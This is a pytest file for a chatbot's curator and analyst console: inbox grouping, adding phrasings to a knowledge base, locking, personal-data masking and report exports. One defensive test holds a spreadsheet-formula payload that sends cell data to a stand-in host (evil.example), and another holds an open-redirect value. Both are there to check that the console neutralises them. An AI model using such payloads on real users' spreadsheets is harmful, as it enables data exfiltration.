"""Curators work the inbox of unanswered questions in the console; analysts read the report."""

from __future__ import annotations

import asyncio
import csv
import fcntl
import io
import os
import re
import time
from collections.abc import AsyncIterator, Sequence
from dataclasses import replace
from datetime import datetime, timedelta
from html import unescape
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import httpx
import pytest
from markupsafe import escape

from bot.core import unanswered
from bot.core.clustering import TextFeatures, cluster_labels
from bot.core.identity import Identity
from bot.core.roles import Role
from bot.core.tickets import Via
from bot.kb.impact import alternative_findings
from bot.storage.question_repo import QuestionRepository
from bot.web.settings import WebSettings
from matcher import Morphology, load_knowledge_base
from tests.bot.web.conftest import Web, csrf_of, log_in, serving

pytestmark = pytest.mark.anyio

PASSPORT_QUESTIONS = (
    "как оформить загранпаспорт через госуслуги",
    "загранпаспорт нового образца как подать заявление",
    "сколько делается загранпаспорт",
)
TRACTOR_QUESTIONS = ("сломался карбюратор у трактора", "трактор не заводится что делать")
IDS = re.compile(r'name="record_ids" value="([0-9,]+)"')


async def _ask(web: Web, questions: tuple[str, ...], prefix: str) -> None:
    for number, text in enumerate(questions):
        identity = Identity("web", f"{prefix}-session-{number:04d}")
        await web.services.conversations.handle(identity, text)


def _cluster_of(page: str, example: str) -> str:
    """The record ids of the cluster whose card shows `example`."""
    [card] = [c for c in page.split('<section class="card cluster">')[1:] if example in c]
    found = IDS.search(card)
    assert found is not None
    return found.group(1)


async def test_a_curator_adds_a_question_to_an_entry_and_it_leaves_the_inbox(web: Web) -> None:
    await _ask(web, PASSPORT_QUESTIONS, "pass")
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    page = await web.client.get("/console/inbox")
    assert page.status_code == 200
    example = "как оформить загранпаспорт через госуслуги"
    assert example in page.text
    ids = _cluster_of(page.text, example)
    assert len(ids.split(",")) == len(PASSPORT_QUESTIONS)

    entry = web.services.answerer.kb.get("account-cannot-sign-in")
    assert entry is not None and entry.file is not None
    # What the base's check says of the phrasing is what the console must show with it.
    advice = alternative_findings(
        web.services.answerer.kb, entry.id, "загранпаспорт через госуслуги не оформить"
    )
    response = await web.client.post(
        "/console/inbox/alternative",
        data={
            "csrf_token": csrf_of(page.text),
            "entry_id": entry.id,
            "text": "загранпаспорт через госуслуги не оформить",
            "record_ids": ids,
        },
    )
    assert response.status_code == 303
    reloaded = load_knowledge_base(web.services.settings.kb_dir).get(entry.id)
    assert reloaded is not None
    assert reloaded.alternatives[-1] == "загранпаспорт через госуслуги не оформить"
    assert reloaded.alternatives[:-1] == entry.alternatives
    after = await web.client.get("/console/inbox")
    assert example not in after.text
    flash = "flash warning" if advice else "flash"
    assert f'<p class="{flash}" role="status">Формулировка добавлена' in after.text
    for finding in advice:
        assert escape(finding.message) in after.text


async def test_a_phrasing_that_would_take_another_entrys_questions_is_refused_until_forced(
    web: Web,
) -> None:
    """A tractor's carburettor may go anywhere, but not to the answer about thanks worded as
    another entry's phrasing: the curator is told what the base's check says, nothing is
    written, the questions stay in the inbox; ticking the box adds it anyway."""
    await _ask(web, TRACTOR_QUESTIONS, "tractor")
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    page = await web.client.get("/console/inbox")
    ids = _cluster_of(page.text, TRACTOR_QUESTIONS[0])
    path = web.services.settings.kb_dir / "smalltalk.yaml"
    before = path.read_bytes()
    sms = web.services.answerer.kb.get("account-sms-not-arriving")
    assert sms is not None
    text = sms.alternatives[0]
    form = {
        "csrf_token": csrf_of(page.text),
        "entry_id": "chat-thanks",
        "text": text,
        "record_ids": ids,
    }

    refused = await web.client.post("/console/inbox/alternative", data=form)

    assert refused.status_code == 303
    assert path.read_bytes() == before
    shown = await web.client.get("/console/inbox")
    assert '<p class="flash warning" role="status">Формулировка не добавлена' in shown.text
    assert escape(f"«{text}» уже есть в записи account-sms-not-arriving") in shown.text
    assert "даже если проверка базы против" in shown.text
    assert TRACTOR_QUESTIONS[0] in shown.text

    forced = await web.client.post(
        "/console/inbox/alternative",
        data={**form, "csrf_token": csrf_of(shown.text), "force": "true"},
    )

    assert forced.status_code == 303
    thanks = load_knowledge_base(web.services.settings.kb_dir).get("chat-thanks")
    assert thanks is not None and thanks.alternatives[-1] == text
    after = await web.client.get("/console/inbox")
    assert "Формулировка добавлена к ответу «chat-thanks»" in after.text
    assert TRACTOR_QUESTIONS[0] not in after.text


async def test_a_phrasing_for_a_topic_file_broken_meanwhile_is_refused_in_russian(
    web: Web,
) -> None:
    """Someone saved account.yaml with a tab; the server keeps serving the last good base,
    and a curator adds a phrasing to an entry of that file: a page that says what is wrong,
    not a 500, and the broken file stays as it was for its author to fix."""
    await _ask(web, PASSPORT_QUESTIONS, "pass")
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    page = await web.client.get("/console/inbox")
    ids = _cluster_of(page.text, PASSPORT_QUESTIONS[0])
    path = web.services.settings.kb_dir / "account.yaml"
    broken = path.read_text(encoding="utf-8").replace("  - id:", "\t- id:", 1)
    path.write_text(broken, encoding="utf-8")

    response = await web.client.post(
        "/console/inbox/alternative",
        data={
            "csrf_token": csrf_of(page.text),
            "entry_id": "account-cannot-sign-in",
            "text": "загранпаспорт через госуслуги не оформить",
            "record_ids": ids,
        },
    )

    assert response.status_code == 422
    assert "Формулировка не добавлена: файл темы сейчас с ошибкой" in response.text
    assert "табуляция: отступы в YAML делаются только пробелами" in response.text
    assert path.read_text(encoding="utf-8") == broken
    assert PASSPORT_QUESTIONS[0] in (await web.client.get("/console/inbox")).text


FEE_PHRASING = "не могу оплатить госпошлину картой мир"
FEE_ENTRIES = ("service-fees-payment", "service-payment-problem")


async def test_two_curators_adding_one_phrasing_to_two_entries_at_once_add_it_once(
    web: Web,
) -> None:
    """Two curators add the same question to two entries within the same second: each alone
    passes the base's check, and both passed it on the served base, which the hot reload
    updates only seconds later; `kb check` then found the phrasing under both entries. The
    check runs under the writers' lock on the files as they are: the second is refused."""
    await _ask(web, TRACTOR_QUESTIONS, "tractor")
    await web.operator("cura", Role.CURATOR)
    await web.operator("vera", Role.CURATOR)
    transport = httpx.ASGITransport(app=web.app)
    async with httpx.AsyncClient(transport=transport, base_url="http://test") as other:
        forms = []
        curators = zip((web.client, other), ("cura", "vera"), FEE_ENTRIES, strict=True)
        for client, login, entry_id in curators:
            await log_in(client, login)
            page = (await client.get("/console/inbox")).text
            ids = _cluster_of(page, TRACTOR_QUESTIONS[0])
            form = {"csrf_token": csrf_of(page), "entry_id": entry_id, "text": FEE_PHRASING}
            forms.append((client, {**form, "record_ids": ids}))

        await asyncio.gather(*(c.post("/console/inbox/alternative", data=f) for c, f in forms))

        shown = [unescape((await c.get("/console/inbox")).text) for c, _ in forms]
    added = [page for page in shown if "Формулировка добавлена к ответу" in page]
    refused = [page for page in shown if "Формулировка не добавлена" in page]
    assert len(added) == len(refused) == 1
    [first] = [e for e in FEE_ENTRIES if f"Формулировка добавлена к ответу «{e}»" in added[0]]
    assert f"«{FEE_PHRASING}» уже есть в записи {first}" in refused[0]
    kb_dir = web.services.settings.kb_dir
    written = "".join(p.read_text(encoding="utf-8") for p in kb_dir.rglob("*.yaml"))
    assert written.count(FEE_PHRASING) == 1
    having = [e.id for e in load_knowledge_base(kb_dir) if FEE_PHRASING in e.alternatives]
    assert having == [first]


# asyncio's default thread pool: every `asyncio.to_thread` of the process shares it.
DEFAULT_THREADS = min(32, (os.cpu_count() or 1) + 4)


def _base_is_locked(kb_dir: Path) -> bool:
    """Whether a writer holds the writers' lock of the base's folder now."""
    descriptor = os.open(kb_dir, os.O_RDONLY)
    try:
        fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except BlockingIOError:
        return True
    finally:
        os.close(descriptor)  # closing it lets a lock taken here go
    return False


async def test_phrasings_waiting_for_the_base_leave_threads_for_the_approval_holding_it(
    web: Web,
) -> None:
    """An approval holds the base's lock from its check to its write, each step on one of
    asyncio's threads. Phrasings added meanwhile each waited for the lock on a thread of
    their own: as many as asyncio has threads left the approval none, and it, they and every
    citizen's question (the matcher runs on the same threads) waited forever."""
    await _ask(web, TRACTOR_QUESTIONS[:1], "tractor")
    await web.operator("olga", Role.OPERATOR)
    olga = await web.services.accounts.get("olga")
    await web.services.desk.take(olga, 1)
    await web.services.desk.resolve(olga, 1, "Обратитесь в сервис.", via=Via.CONSOLE)
    proposal = await web.services.proposals.propose(
        olga, 1, question="Что делать, если сломался карбюратор трактора?", answer="В сервис."
    )
    await web.operator("cura", Role.CURATOR)
    cura = await web.services.accounts.get("cura")
    kb_dir = web.services.settings.kb_dir

    approving = asyncio.create_task(web.services.proposals.approve(cura, proposal.id))
    while not _base_is_locked(kb_dir):
        await asyncio.sleep(0.01)
    adding = [
        web.services.unanswered.add_alternative(
            cura, "account-cannot-sign-in", f"не пускает в кабинет, попытка {n}", [], force=True
        )
        for n in range(DEFAULT_THREADS)
    ]
    added = await asyncio.wait_for(asyncio.gather(*adding), timeout=60)
    approved = await asyncio.wait_for(approving, timeout=60)

    assert approved.entry_id is not None and all(a.added for a in added)
    entry = load_knowledge_base(kb_dir).get("account-cannot-sign-in")
    assert entry is not None
    assert sum("попытка" in a for a in entry.alternatives) == DEFAULT_THREADS


PENSION_QUESTIONS = (
    "почему мне не пришла пенсия",
    "Почему мне не пришла пенсия?",
    "меня зовут Мария Иванова, почему не пришла пенсия",
    "Меня зовут Анна Петрова, почему не пришла пенсия?",
    "почему не пришла пенсия за ноябрь",
)
ALTERNATIVES = re.compile(r'name="alternatives" value="([^"]*)"')
TICKETS = re.compile(r'<option value="(\d+)">№ \d+</option>')


async def test_a_new_answer_is_proposed_through_a_resolved_ticket_without_masked_names(
    web: Web,
) -> None:
    """The inbox offers only resolved tickets of the group (an open one was refused with
    409 after the pick), and the proposal takes the group's examples without "[имя]" and
    without the same wording twice, which `kb check` would flag once approved."""
    await _ask(web, PENSION_QUESTIONS, "pension")  # tickets 1-5
    await web.operator("olga", Role.OPERATOR)
    operator = await web.services.accounts.get("olga")
    await web.services.desk.take(operator, 4)
    await web.services.desk.resolve(operator, 4, "Пенсию перечисляют до 25 числа.", via=Via.CONSOLE)
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    page = (await web.client.get("/console/inbox")).text
    [card] = [c for c in page.split('<section class="card cluster">')[1:] if "пенси" in c]
    assert TICKETS.findall(card) == ["4"]
    found = ALTERNATIVES.search(card)
    question = re.search(r'name="question" value="([^"]*)"', card)
    assert found is not None and question is not None
    # The group's title: the most typical of the well-spelt questions, newest of equals.
    assert unescape(question.group(1)) == "Почему мне не пришла пенсия?"
    ids = _cluster_of(page, "почему не пришла пенсия за ноябрь")

    sent = await web.client.post(
        "/console/inbox/propose",
        data={
            "csrf_token": csrf_of(page),
            "record_ids": ids,
            "alternatives": unescape(found.group(1)),
            "ticket_number": "4",
            "question": unescape(question.group(1)),  # as the form fills it in
            "answer": "Пенсию перечисляют до 25 числа.",
        },
    )

    assert sent.status_code == 303
    [proposal] = await web.services.proposals.pending()
    assert proposal.alternatives == ("почему не пришла пенсия за ноябрь",)


async def test_a_phrasing_as_the_inbox_shows_it_masked_is_not_added(web: Web) -> None:
    """The group's first example fills the form; "позвоните мне [телефон] срочно" would put
    the placeholder into the base as a citizen's wording."""
    await _ask(web, ("позвоните мне 89161234567 срочно",), "call")
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    page = (await web.client.get("/console/inbox")).text
    assert 'name="text" value="позвоните мне [телефон] срочно"' in page
    path = web.services.settings.kb_dir / "support.yaml"
    before = path.read_bytes()

    refused = await web.client.post(
        "/console/inbox/alternative",
        data={
            "csrf_token": csrf_of(page),
            "entry_id": "support-phone-number",
            "text": "позвоните мне [телефон] срочно",
            "record_ids": _cluster_of(page, "позвоните мне [телефон] срочно"),
        },
    )

    assert refused.status_code == 422
    assert "или их замена вроде «[имя]»: уберите их." in refused.text
    assert path.read_bytes() == before


async def test_curators_are_told_the_files_of_the_base_are_broken(web: Web) -> None:
    """A file saved with a tab is not served (the last good base is): the inbox and the
    proposals page say so, with file and line, instead of "база обновится через несколько
    секунд" for a phrasing that will not be served until the file is fixed."""
    await _ask(web, PASSPORT_QUESTIONS, "pass")
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    for path in ("/console/inbox", "/console/proposals"):
        assert "Файлы базы знаний сейчас с ошибкой" not in (await web.client.get(path)).text
    topic = web.services.settings.kb_dir / "account.yaml"
    topic.write_text(
        topic.read_text(encoding="utf-8").replace("  - id:", "\t- id:", 1), encoding="utf-8"
    )
    web.services.answerer.check()

    for path in ("/console/inbox", "/console/proposals"):
        page = unescape((await web.client.get(path)).text)
        assert "Файлы базы знаний сейчас с ошибкой: бот отвечает по прежней версии" in page
        assert "account.yaml:" in page and "табуляция" in page


async def test_a_dismissed_cluster_is_gone_and_the_other_stays(web: Web) -> None:
    await _ask(web, PASSPORT_QUESTIONS, "pass")
    await _ask(web, TRACTOR_QUESTIONS, "tractor")
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    page = await web.client.get("/console/inbox")
    ids = _cluster_of(page.text, TRACTOR_QUESTIONS[0])
    response = await web.client.post(
        "/console/inbox/dismiss", data={"csrf_token": csrf_of(page.text), "record_ids": ids}
    )
    assert response.status_code == 303
    after = await web.client.get("/console/inbox")
    assert TRACTOR_QUESTIONS[0] not in after.text
    assert PASSPORT_QUESTIONS[0] in after.text


async def test_dismissing_a_need_leaves_another_that_shares_only_its_verb(web: Web) -> None:
    await _ask(web, ("как оформить ипотеку",), "mortgage")
    await _ask(web, ("как оформить полис омс",), "insurance")
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    page = await web.client.get("/console/inbox")
    ids = _cluster_of(page.text, "как оформить ипотеку")
    response = await web.client.post(
        "/console/inbox/dismiss", data={"csrf_token": csrf_of(page.text), "record_ids": ids}
    )
    assert response.status_code == 303
    after = unescape((await web.client.get("/console/inbox")).text)
    assert "Убрано из списка вопросов: 1." in after
    assert "как оформить ипотеку" not in after
    assert "как оформить полис омс" in after


async def test_a_curator_takes_one_question_out_of_a_group(web: Web) -> None:
    await _ask(web, PASSPORT_QUESTIONS, "pass")
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    page = unescape((await web.client.get("/console/inbox")).text)
    stray = PASSPORT_QUESTIONS[2]
    [card] = [c for c in page.split('<section class="card cluster">')[1:] if stray in c]
    one = card.split("Убрать из списка один вопрос")[1]
    [form] = [f for f in one.split("<form")[1:] if stray in f]
    assert f"Убрать из списка вопрос «{stray}»" in form
    found = IDS.search(form)
    assert found is not None and len(found.group(1).split(",")) == 1
    response = await web.client.post(
        "/console/inbox/dismiss",
        data={"csrf_token": csrf_of(page), "record_ids": found.group(1)},
    )
    assert response.status_code == 303
    after = unescape((await web.client.get("/console/inbox")).text)
    assert "Убрано из списка вопросов: 1." in after
    assert stray not in after
    # The rest of the group is still there, as one group.
    assert len(_cluster_of(after, PASSPORT_QUESTIONS[0]).split(",")) == 2


async def test_personal_data_cannot_become_a_phrasing(web: Web) -> None:
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    page = await web.client.get("/console/inbox")
    response = await web.client.post(
        "/console/inbox/alternative",
        data={
            "csrf_token": csrf_of(page.text),
            "entry_id": "account-cannot-sign-in",
            "text": "не могу войти, мой телефон +7 912 345-67-89",
            "record_ids": "",
        },
    )
    assert response.status_code in (400, 422)


async def test_inbox_forms_need_the_csrf_token(web: Web) -> None:
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    response = await web.client.post("/console/inbox/dismiss", data={"record_ids": "1"})
    assert response.status_code == 403


async def test_an_analyst_reads_the_report_but_not_the_inbox(web: Web) -> None:
    await _ask(web, TRACTOR_QUESTIONS, "tractor")
    await web.services.conversations.handle(Identity("web", "answered-session-1"), "забыл пароль")
    await web.operator("alla", Role.ANALYST)
    await log_in(web.client, "alla")
    assert (await web.client.get("/console/inbox")).status_code == 403
    page = await web.client.get("/console/report")
    assert page.status_code == 200
    assert "Отчёт о работе консультанта" in page.text
    assert "data:image/png;base64," in page.text
    csv = await web.client.get("/console/report/days.csv")
    assert csv.status_code == 200
    assert csv.headers["content-type"].startswith("text/csv")
    lines = csv.text.lstrip("\ufeff").splitlines()
    assert lines[0].startswith("день;") and lines[1].endswith(";3")


async def test_the_report_is_a_console_page_with_a_choice_of_period(web: Web) -> None:
    await _ask(web, PASSPORT_QUESTIONS, "pass")
    await web.operator("alla", Role.ANALYST)
    await log_in(web.client, "alla")
    page = (await web.client.get("/console/report")).text
    # The console's menu and who is logged in, as on every console page.
    assert '<a href="/console/report">Отчёт</a>' in page and "alla" in page
    assert re.search(r"Составлен \d\d\.\d\d\.\d{4} \d\d:\d\d МСК\.", page)
    # An unanswered group names the entry the bot found closest by its question.
    [group] = (await web.services.reports.build(None)).clusters
    entry = web.services.answerer.kb.get(group.closest_entry_id or "")
    assert entry is not None
    assert f"<td>{entry.question}</td>" in page.replace("&#34;", '"')
    # The period form as a browser sends it: empty dates are the whole record.
    whole = await web.client.get("/console/report", params={"since": "", "until": ""})
    assert whole.status_code == 200 and "с начала записей" in whole.text
    day_moscow = datetime.now(ZoneInfo("Europe/Moscow")).date()  # the report's days are Moscow's
    today, yesterday = day_moscow.isoformat(), (day_moscow - timedelta(days=1)).isoformat()
    day = await web.client.get("/console/report", params={"since": today, "until": today})
    assert f"Период: {today} —\n{today}." in day.text
    assert f'name="since" value="{today}"' in day.text
    assert "<td>3</td>" in day.text.replace(' class="num"', "")
    csv = await web.client.get("/console/report/days.csv", params={"since": "", "until": ""})
    assert csv.status_code == 200
    backwards = {"since": today, "until": yesterday}
    wrong = await web.client.get("/console/report", params=backwards)
    assert wrong.status_code == 422 and "Начало периода позже его конца" in wrong.text


@pytest.mark.parametrize("field", ["since", "until"])
async def test_a_period_that_is_no_date_is_refused_in_russian(web: Web, field: str) -> None:
    await web.operator("alla", Role.ANALYST)
    await log_in(web.client, "alla")
    for path in ("/console/report", "/console/report/days.csv"):
        wrong = await web.client.get(path, params={field: "05.13.2026"})
        assert wrong.status_code == 422
        name = "начало" if field == "since" else "конец"
        assert f"Поле «{name} периода» должно быть датой, например 2026-10-05." in wrong.text
        assert "Input should" not in wrong.text


async def test_numbers_past_the_database_range_in_curator_forms_are_refused_not_a_500(
    web: Web,
) -> None:
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    token = csrf_of((await web.client.get("/console/inbox")).text)
    huge = str(2**70)
    posts = {
        "/console/inbox/dismiss": {"record_ids": huge},
        "/console/inbox/propose": {
            "record_ids": "1",
            "ticket_number": huge,
            "question": "Вопрос?",
            "answer": "Ответ.",
        },
        f"/console/proposals/{huge}/approve": {},
        f"/console/proposals/{huge}/reject": {"text": "Дубль"},
    }
    for path, form in posts.items():
        response = await web.client.post(path, data={"csrf_token": token, **form})
        assert response.status_code == 422, path
        assert "Действие не выполнено" in response.text
    missing = await web.client.post(
        "/console/inbox/propose",
        data={"csrf_token": token, "ticket_number": "1", "question": "В?", "answer": "О."},
    )
    assert "Не заполнено поле «вопросы группы»." in missing.text


async def test_an_operator_cannot_read_the_report(web: Web) -> None:
    await web.operator("olga", Role.OPERATOR)
    await log_in(web.client, "olga")
    assert (await web.client.get("/console/report")).status_code == 403


async def test_the_entry_operators_answered_with_is_offered_first_in_the_inbox(web: Web) -> None:
    """An operator's reply made from an entry of the base tells curators which entry the
    handed-off questions needed: the inbox names it and chooses it for the new phrasing."""
    await _ask(web, PASSPORT_QUESTIONS[2:], "pass")  # handed off: ticket 1
    await _ask(web, TRACTOR_QUESTIONS[:1], "tractor")  # ticket 2
    await web.operator("olga", Role.OPERATOR)
    await log_in(web.client, "olga")
    for entry_id in ("service-how-to-apply", "no-such-entry"):
        queue = await web.client.get("/console")
        taken = await web.client.post("/console/take", data={"csrf_token": csrf_of(queue.text)})
        ticket = taken.headers["location"]
        page = await web.client.get(ticket, params={"answer": entry_id})
        filled = 'name="entry_id" value="service-how-to-apply"' in page.text
        assert filled == (entry_id == "service-how-to-apply")
        sent = await web.client.post(
            f"{ticket}/reply",
            data={"csrf_token": csrf_of(page.text), "text": "Ответ", "entry_id": entry_id},
        )
        assert sent.status_code == 303
    await web.client.post("/console/logout", data={"csrf_token": csrf_of(page.text)})

    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    inbox = await web.client.get("/console/inbox")
    [card] = [
        c
        for c in inbox.text.split('<section class="card cluster">')[1:]
        if PASSPORT_QUESTIONS[2] in c
    ]
    assert (
        "Операторы ответили на эти вопросы ответом "
        "«Как подать заявление на услугу через Госуслуги?» (service-how-to-apply)"
    ) in card
    assert '<option value="service-how-to-apply" selected>' in card
    async with web.services.db.transaction() as uow:
        records = await uow.questions.between(None, None)
    used = {r.text: r.operator_entry_id for r in records if r.operator_entry_id}
    assert used == {PASSPORT_QUESTIONS[2]: "service-how-to-apply"}


DAYS_PAST_THE_CALENDAR = (
    ("/console/report", {"until": "9999-12-31"}, "9999-12-31"),
    ("/console/report", {"since": "0001-01-01"}, "0001-01-01"),
    ("/console/report/days.csv", {"until": "9999-12-31"}, "9999-12-31"),
    ("/console/report/unanswered.csv", {"since": "0001-01-01", "until": "2025-01-31"}, "0001"),
)


async def test_a_day_at_the_ends_of_the_calendar_is_refused_in_russian(web: Web) -> None:
    await _ask(web, PASSPORT_QUESTIONS, "pass")
    await web.operator("alla", Role.ANALYST)
    await log_in(web.client, "alla")
    for path, period, day in DAYS_PAST_THE_CALENDAR:
        response = await web.client.get(path, params=period)
        assert response.status_code == 422, (path, period, response.text[:300])
        assert f"Дата {day}" in response.text and "вне допустимого диапазона" in response.text
    # The last days the calendar can hold are still a period: the whole record fits in it.
    widest_period = {"since": "0001-01-02", "until": "9999-12-30"}
    widest = await web.client.get("/console/report", params=widest_period)
    assert widest.status_code == 200 and "<td>3</td>" in widest.text.replace(' class="num"', "")


FORMULA_QUESTIONS = ('=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', "@SUM(1,1) ошибка")


async def test_a_question_typed_as_a_formula_is_text_in_the_downloaded_csv(web: Web) -> None:
    await _ask(web, FORMULA_QUESTIONS, "formula")
    await web.operator("alla", Role.ANALYST)
    await log_in(web.client, "alla")
    download = await web.client.get("/console/report/unanswered.csv")
    assert download.status_code == 200
    header, *groups = csv.reader(io.StringIO(download.text.removeprefix("\ufeff")), delimiter=";")
    examples = {row[header.index("примеры")] for row in groups}
    # Behind an apostrophe a spreadsheet shows what the citizen typed and runs nothing.
    assert examples == {"'" + question for question in FORMULA_QUESTIONS}
    assert [row[0] for row in groups] == ["1", "1"]  # the counts are still numbers


async def test_a_typo_joins_its_group_and_needs_sharing_only_a_child_stay_apart(
    web: Web,
) -> None:
    """The base says nothing of mortgages: "ипатеку" is repaired against the "ипотеку" of
    the inbox's other questions, and a well-spelt question names the group; "ребенку" and
    "сделать" alone make no group."""
    mortgage = (
        "как оформить ипотеку",
        "семейная ипотека как подать заявку",
        "хочу взять ипотеку с господдержкой",
    )
    await _ask(web, mortgage, "mortgage")
    await _ask(web, ("как оформить ипатеку",), "typo")
    await _ask(web, ("как сделать прописку ребенку",), "registration")
    await _ask(web, ("где оформить полис омс ребенку",), "insurance")
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    page = unescape((await web.client.get("/console/inbox")).text)
    cards = page.split('<section class="card cluster">')[1:]

    [typo] = [c for c in cards if "как оформить ипатеку" in c]
    assert all(question in typo for question in mortgage)
    assert '<b class="size">4</b>' in typo
    # Asked last, the typo is the newest of four questions asked once each: not the title, nor
    # the phrasing offered to add to an entry.
    assert "<h2>как оформить ипотеку</h2>" in typo
    assert 'name="text" value="как оформить ипотеку"' in typo
    [registration] = [c for c in cards if "как сделать прописку ребенку" in c]
    assert "где оформить полис омс ребенку" not in registration
    assert '<b class="size">1</b>' in registration


async def test_a_group_is_not_titled_by_a_question_with_a_masked_inn_or_snils(
    web: Web,
) -> None:
    """Two citizens wrote their own INN: masked alike, theirs is the most asked text of the
    group, but the card is titled, and offers to add, the question without the mask."""
    await _ask(
        web,
        (
            "не принимает мой инн 500100732259 при регистрации ип",
            "не принимает мой инн 772812345670 при регистрации ип",
            "не принимает инн при регистрации ип",
        ),
        "inn",
    )
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    page = unescape((await web.client.get("/console/inbox")).text)
    [card] = [c for c in page.split('<section class="card cluster">')[1:] if "[ИНН]" in c]
    assert '<b class="size">3</b>' in card
    assert "<h2>не принимает инн при регистрации ип</h2>" in card
    assert 'name="text" value="не принимает инн при регистрации ип"' in card


async def test_a_curator_pages_through_every_question_of_a_group_and_takes_any_out(
    web: Web, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The card shows 5 examples; the group's own page lists all 55 questions, 50 a page, each
    with «Убрать», and taking one out comes back to the same page without it. The inbox is
    grouped once while its questions stay as they are, not again for each page."""
    groupings: list[int] = []

    def counted(texts: Sequence[TextFeatures], **options: Any) -> list[int]:
        groupings.append(len(texts))
        return cluster_labels(texts, **options)

    monkeypatch.setattr(unanswered, "cluster_labels", counted)
    asked = tuple(f"трактор не заводится, модель {n}" for n in range(1, 56))
    await _ask(web, asked, "tractor")
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    inbox = unescape((await web.client.get("/console/inbox")).text)
    [card] = [c for c in inbox.split('<section class="card cluster">')[1:] if "трактор" in c]
    assert card.count("<li>трактор не заводится, модель") == 5
    link = re.search(r'<a href="(/console/inbox/group/[0-9]+)">Все вопросы группы \(55', card)
    assert link is not None

    first = unescape((await web.client.get(link.group(1))).text)
    assert "страница 1 из 2" in first
    assert first.count('aria-label="Убрать из списка вопрос «') == 50
    following = re.search(r'<a href="([^"]+)" rel="next">Следующие →</a>', first)
    assert following is not None
    second = unescape((await web.client.get(following.group(1))).text)
    assert "страница 2 из 2" in second
    assert second.count('aria-label="Убрать из списка вопрос «') == 5
    assert groupings == [55]
    on_second = re.findall(r"Убрать из списка вопрос «([^»]+)»", second)
    stray = next(q for q in on_second if f"<li>{q}</li>" not in card)
    [form] = [f for f in second.split("<form")[1:] if f"вопрос «{stray}»" in f]
    ids = IDS.search(form)
    back = re.search(r'name="back" value="([^"]+)"', form)
    assert ids is not None and back is not None

    response = await web.client.post(
        "/console/inbox/dismiss",
        data={"csrf_token": csrf_of(second), "record_ids": ids.group(1), "back": back.group(1)},
    )

    assert response.status_code == 303
    assert response.headers["location"].endswith("?page=2")
    after = unescape((await web.client.get(response.headers["location"])).text)
    assert "Убрано из списка вопросов: 1." in after
    assert "страница 2 из 2" in after
    assert f"вопрос «{stray}»" not in after
    assert after.count('aria-label="Убрать из списка вопрос «') == 4
    inbox = unescape((await web.client.get("/console/inbox")).text)
    assert '<b class="size">54</b>' in inbox
    assert f"<li>{stray}</li>" not in inbox
    assert groupings == [55, 54]


async def test_a_dismissal_goes_back_only_to_the_inbox(web: Web) -> None:
    await _ask(web, TRACTOR_QUESTIONS, "tractor")
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    page = await web.client.get("/console/inbox")
    ids = _cluster_of(page.text, TRACTOR_QUESTIONS[0])
    response = await web.client.post(
        "/console/inbox/dismiss",
        data={"csrf_token": csrf_of(page.text), "record_ids": ids, "back": "https://evil.test/"},
    )
    assert response.headers["location"] == "/console/inbox"


async def test_a_certificate_for_school_and_a_verb_of_registration_find_their_own_groups(
    web: Web,
) -> None:
    """ "справка" is the object of both needs: "для ребенка в школу" is not "о несудимости".
    "прописать" is the need the other questions call "прописка"."""
    criminal_record = (
        "как получить справку о несудимости",
        "справка об отсутствии судимости сколько ждать",
    )
    registration = ("как сделать прописку ребенку", "прописка новорожденного через госуслуги")
    await _ask(web, criminal_record, "record")
    await _ask(web, ("как получить справку для ребенка в школу",), "school")
    await _ask(web, registration, "registration")
    await _ask(web, ("прописать ребенка в квартиру",), "verb")
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    page = unescape((await web.client.get("/console/inbox")).text)
    cards = page.split('<section class="card cluster">')[1:]

    [school] = [c for c in cards if "как получить справку для ребенка в школу" in c]
    assert '<b class="size">1</b>' in school
    [record] = [c for c in cards if criminal_record[0] in c]
    assert criminal_record[1] in record
    assert '<b class="size">2</b>' in record
    [verb] = [c for c in cards if "прописать ребенка в квартиру" in c]
    assert all(question in verb for question in registration)
    assert '<b class="size">3</b>' in verb


@pytest.fixture
async def small_inbox(
    web_settings: WebSettings, morphology: Morphology, anyio_backend: str
) -> AsyncIterator[Web]:
    """The app grouping only the 3 newest distinct questions."""
    analytics = replace(web_settings.core.analytics, max_cluster_questions=3)
    settings = replace(web_settings, core=replace(web_settings.core, analytics=analytics))
    async with serving(settings, morphology) as web:
        yield web


async def test_the_group_of_a_question_older_than_those_grouped_is_shown_with_why(
    small_inbox: Web,
) -> None:
    """The list groups the 3 newest distinct questions; a link to an older one still in the
    inbox shows its group among them and says why the list has no card for it."""
    web = small_inbox
    await _ask(web, ("сломался карбюратор у трактора",), "old")
    await _ask(web, (*PASSPORT_QUESTIONS,), "new")
    async with web.services.db.transaction() as uow:
        [old] = [r for r in await uow.questions.between(None, None) if "трактор" in r.text]
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    assert "трактор" not in (await web.client.get("/console/inbox")).text

    page = await web.client.get(f"/console/inbox/group/{old.id}")

    assert page.status_code == 200
    shown = unescape(page.text)
    assert "<h1>сломался карбюратор у трактора</h1>" in shown
    assert "Этой группы больше нет" not in shown
    assert (
        "В общем списке групп этого вопроса нет: список группирует 3 самых новых разных "
        "вопросов, а этот задан раньше." in shown
    )
